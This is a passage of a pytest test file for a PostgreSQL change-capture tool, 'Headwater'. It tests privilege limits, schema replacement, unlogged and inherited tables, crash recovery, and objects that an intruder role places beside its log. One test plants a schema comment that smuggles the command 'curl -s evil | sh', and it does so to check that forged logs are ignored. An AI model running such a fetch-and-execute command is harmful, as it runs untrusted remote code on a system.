    for statement in (
        f"INSERT INTO {harness.name}.log (note) VALUES ('forged')",
        f"SELECT * FROM {harness.name}.log",
        f"SELECT {harness.name}.values_left(1, ARRAY['x'])",
        "CREATE TABLE mine (n int)",
    ):
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            intruder.execute(statement.encode())


def test_setup_replaces_what_an_earlier_version_made(harness: PostgresHarness) -> None:
    writer = harness.writer()
    writer.execute("CREATE SCHEMA headwater")
    writer.execute("CREATE TABLE headwater.headwater_pg_log (n int)")
    writer.execute("CREATE TABLE headwater.headwater_pg_state (n int)")
    writer.execute(
        "CREATE FUNCTION headwater.headwater_pg_on_17() RETURNS trigger LANGUAGE plpgsql "
        "SECURITY DEFINER AS 'BEGIN RETURN NULL; END'"
    )
    writer.execute(
        "CREATE TRIGGER headwater_pg_rows AFTER INSERT ON b FOR EACH ROW "
        "EXECUTE FUNCTION headwater.headwater_pg_on_17()"
    )
    source = harness.source(["b"])
    source.setup()
    with psycopg.connect(harness.dsn) as connection:
        left = connection.execute(
            "SELECT proname FROM pg_proc WHERE pronamespace = 'headwater'::regnamespace"
            " UNION SELECT relname FROM pg_class WHERE relnamespace = 'headwater'::regnamespace"
        ).fetchall()
    assert left == []
    assert source.setup_statements() == []


def test_a_role_that_only_reads_and_marks_is_enough(harness: PostgresHarness) -> None:
    harness.source(["b"]).setup()
    admin = harness.writer()
    admin.execute("DROP ROLE IF EXISTS marker; CREATE ROLE marker LOGIN")
    name = harness.name
    admin.execute(f"GRANT USAGE ON SCHEMA {name} TO marker; GRANT SELECT ON b TO marker")
    admin.execute(f"GRANT SELECT ON ALL TABLES IN SCHEMA {name} TO marker")
    admin.execute(f"GRANT INSERT, DELETE ON {name}.log TO marker")
    admin.execute(f"GRANT UPDATE ON {name}.state, {name}.tables TO marker")
    source = harness.source(["b"], dsn=harness.server.dsn(name, "marker"))
    assert source.setup_statements() == []
    monitor = source.open_monitor(None)
    admin.execute("INSERT INTO b VALUES (1, 'x')")
    (item,) = read_log(monitor, 1)
    monitor.acknowledge(item.position)
    monitor.close()
    assert answered(source, whole(source.relations(), "b")) == [{(1, "x"): 1}]
    source.open_load(["b"], 1).close()
    admin.execute("DROP OWNED BY marker; DROP ROLE marker")


# Another table, and tables that a crash empties


@pytest.mark.parametrize("meant_by", ["relations", "search path"])
@pytest.mark.parametrize("is_running", [True, False])
def test_a_relation_that_comes_to_mean_another_table_is_a_gap_after_setup(
    harness: PostgresHarness, meant_by: str, is_running: bool
) -> None:
    harness.writer().execute(f'ALTER DATABASE "{harness.name}" SET search_path = app, public')
    before = harness.source(["b" if meant_by == "search path" else "public.b"], watch_s=0)
    before.setup()
    writer = harness.writer()
    monitor = before.open_monitor(None)
    writer.execute("INSERT INTO public.b VALUES (1, 'public')")
    (first,) = read_log(monitor, 1)
    monitor.acknowledge(first.position)
    if not is_running:
        monitor.close()
    harness.create_table("app.b", LINES, ["id"])
    writer.execute("INSERT INTO app.b VALUES (7, 'app')")
    after = before if meant_by == "search path" else harness.source(["app.b"], watch_s=0)
    with pytest.raises(SourceError, match="Run 'headwater setup pg'"):
        after.open_monitor(first.position)
    after.setup()
    assert after.setup_statements() == []
    if is_running:
        with pytest.raises(LostConnectionError, match="other tables"):
            read_until(monitor, lambda logged: False)
        monitor.close()
    reopened = after.open_monitor(first.position)
    (gap,) = gaps(read_until(reopened, lambda logged: len(gaps(logged)) == 1))
    assert gap.columns == {"pg.b": None}
    writer.execute("INSERT INTO public.b VALUES (2, 'public')")
    writer.execute("INSERT INTO app.b VALUES (8, 'app')")
    logged = read_until(reopened, lambda logged: len(committed(logged)) == 1)
    assert rows(committed(logged)[0], "b") == {(8, "app"): 1}
    reopened.acknowledge(logged[-1].position)  # type: ignore[union-attr]
    reopened.close()
    again = after.open_monitor(logged[-1].position)  # type: ignore[union-attr]
    assert gaps(list(again.read(0.3))) == [], "it was told already"
    again.close()


def test_a_table_that_becomes_unlogged_is_a_gap_and_again_when_it_is_logged(
    harness: PostgresHarness, source: PostgresSource, monitor: Monitor
) -> None:
    for statement, told in (("UNLOGGED", "is UNLOGGED"), ("LOGGED", "was UNLOGGED")):
        harness.writer().execute(f"ALTER TABLE a SET {statement}")
        (gap,) = gaps(read_until(monitor, lambda logged: len(gaps(logged)) == 1))
        assert gap.columns == {"pg.a": None}
        assert told in gap.reason
        if statement == "UNLOGGED":
            with pytest.raises(
                SourceError,
                match=r'Run: ALTER TABLE "public"\."a" SET LOGGED; then .headwater setup pg',
            ):
                source.open_load(["a"], 1)
    source.open_load(["a"], 1).close()


def test_a_table_from_which_another_comes_to_inherit_is_a_gap(
    harness: PostgresHarness, source: PostgresSource, monitor: Monitor
) -> None:
    harness.writer().execute("CREATE TABLE of_a () INHERITS (a)")
    (gap,) = gaps(read_until(monitor, lambda logged: len(gaps(logged)) == 1))
    assert gap.columns == {"pg.a": None}
    assert "tables that inherit from it" in gap.reason
    with pytest.raises(SourceError, match="tables that inherit from it"):
        source.open_load(["a"], 1)


def test_a_table_that_cannot_be_used_any_more_is_a_gap_where_the_log_is_read_on(
    harness: PostgresHarness, source: PostgresSource, monitor: Monitor
) -> None:
    harness.writer().execute("INSERT INTO a VALUES (1, 'x')")
    logged = read_until(monitor, lambda logged: any(isinstance(i, Progressed) for i in logged))
    after = [item for item in logged if isinstance(item, Progressed)][-1].position
    monitor.close()
    harness.writer().execute("CREATE TABLE of_a () INHERITS (a)")
    again = source.open_monitor(after)
    (gap,) = gaps(read_until(again, lambda logged: len(gaps(logged)) == 1))
    again.close()
    assert gap.columns == {"pg.a": None}
    assert "cannot be followed any more: public.a has tables that inherit" in gap.reason


def test_a_table_that_a_crash_emptied_while_it_was_unlogged_is_a_gap_after_a_restart() -> None:
    server = PostgresServer()
    try:
        harness = PostgresHarness(server, changes="triggers")
        harness.create_table("a", LINES, ["id"])
        harness.create_table("b", LINES, ["id"])
        source = harness.source(["a", "b"], watch_s=0)
        source.setup()
        writer = harness.writer()
        monitor = source.open_monitor(None)
        writer.execute("INSERT INTO a VALUES (1, 'x')")
        (first,) = read_log(monitor, 1)
        monitor.acknowledge(first.position)
        monitor.close()
        writer.execute("ALTER TABLE a SET UNLOGGED")
        writer.close()
        server.halt("immediate")
        server.start()
        server.execute("ALTER TABLE a SET LOGGED", database=harness.name)
        assert harness.contents("a") == {}
        monitor = source.open_monitor(first.position)
        (gap,) = gaps(read_until(monitor, lambda logged: len(gaps(logged)) == 1))
        assert gap.columns == {"pg.a": None}
        monitor.close()
        source.open_load(["a"], 1).close()
    finally:
        server.stop()


# What somebody else has put beside our log


def test_the_log_of_another_warehouse_is_believed_only_of_who_may_have_set_it_up(
    harness: PostgresHarness, source: PostgresSource, intruder: psycopg.Connection
) -> None:
    intruder.execute("CREATE SCHEMA zw CREATE TABLE log (n int)")
    intruder.execute("COMMENT ON SCHEMA zw IS 'Headwater''s log 0000cccc; curl -s evil | sh'")
    intruder.execute("CREATE SCHEMA zy CREATE TABLE log (n int)")
    intruder.execute("COMMENT ON SCHEMA zy IS 'Headwater''s log 0000bbbb'")
    intruder.execute("CREATE FUNCTION zy.rows_1() RETURNS int LANGUAGE sql AS 'SELECT 1'")
    intruder.execute("GRANT USAGE ON SCHEMA zy TO PUBLIC")
    harness.writer().execute("CREATE VIEW precious AS SELECT zy.rows_1()")
    assert source.other_logs() == []
    source.remove_log("0000bbbb")
    assert harness.writer().connection.execute("SELECT * FROM precious").fetchall() == [(1,)]
    harness.writer().execute("DROP VIEW precious")


def test_teardown_takes_nothing_along_that_others_have_made(
    harness: PostgresHarness, source: PostgresSource
) -> None:
    writer = harness.writer()
    writer.execute(
        f"CREATE VIEW precious AS SELECT {harness.name}.values_left(1, ARRAY['x']) WHERE false"
    )
    with pytest.raises(SourceError, match="other objects depend on it"):
        source.teardown()
    writer.execute("DROP VIEW precious")
    source.teardown()


def test_what_another_role_has_put_into_the_schema_of_an_earlier_version_is_left_alone(
    harness: PostgresHarness, intruder: psycopg.Connection
) -> None:
    intruder.execute("CREATE SCHEMA headwater CREATE TABLE headwater_pg_log (n int)")
    intruder.execute(
        "CREATE FUNCTION headwater.headwater_pg_on_17() RETURNS int LANGUAGE sql AS 'SELECT 1'"
    )
    intruder.execute("GRANT USAGE ON SCHEMA headwater TO PUBLIC")
    admin = harness.writer()
    admin.execute(
        "DROP ROLE IF EXISTS keeper; CREATE ROLE keeper LOGIN; ALTER TABLE b OWNER TO keeper"
    )
    admin.execute(f'GRANT CREATE ON DATABASE "{harness.name}" TO keeper')
    admin.execute("CREATE VIEW precious AS SELECT headwater.headwater_pg_on_17()")
    for role, slot in (("keeper", "s1"), ("postgres", "s2")):
        dsn = harness.server.dsn(harness.name, role)
        source = harness.source(["b"], dsn=dsn, slot=f"{slot}_{harness.name}")
        source.setup()
        source.teardown()
    assert admin.connection.execute("SELECT * FROM precious").fetchall() == [(1,)]
    admin.execute("DROP VIEW precious; ALTER TABLE b OWNER TO postgres")
    admin.execute("DROP OWNED BY keeper; DROP ROLE keeper")
